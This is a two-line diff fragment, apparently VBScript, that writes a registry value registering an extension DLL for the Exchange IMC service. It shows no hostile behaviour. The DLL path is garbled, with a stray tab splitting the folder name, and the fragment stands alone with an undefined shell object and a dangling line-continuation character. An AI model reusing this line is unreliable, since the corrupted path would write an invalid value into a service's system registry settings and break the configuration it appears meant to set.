@@ -1,0 +1,2 @@
+ _
+sh.RegWrite "HKLM\SYSTEM\CurrentControlSet\Services\MSExchangeIMC\Parameters\ExtensionDLL", "C:\Exchsr	rr\imcext.dll", "REG_SZ"
